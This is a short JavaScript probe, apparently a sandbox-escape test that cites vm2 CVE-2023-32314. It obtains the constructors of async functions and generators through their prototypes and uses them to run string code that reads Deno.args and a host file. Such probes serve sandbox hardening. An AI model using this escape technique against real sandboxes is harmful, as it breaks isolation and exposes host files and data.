// Tries: the constructors of async functions and generators, which no global names.
// Origin: vm2 CVE-2023-32314; the constructors that every hand-made sandbox forgets.

const kinds = [async () => {}, function* () {}, async function* () {}];
const found = [];
for (const kind of kinds) {
  try {
    const made = Object.getPrototypeOf(kind).constructor("yield_", "return [Deno.args, Deno.readTextFileSync(input.file)]");
    const result = made();
    found.push(await (typeof result.next === "function" ? result.next() : result));
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
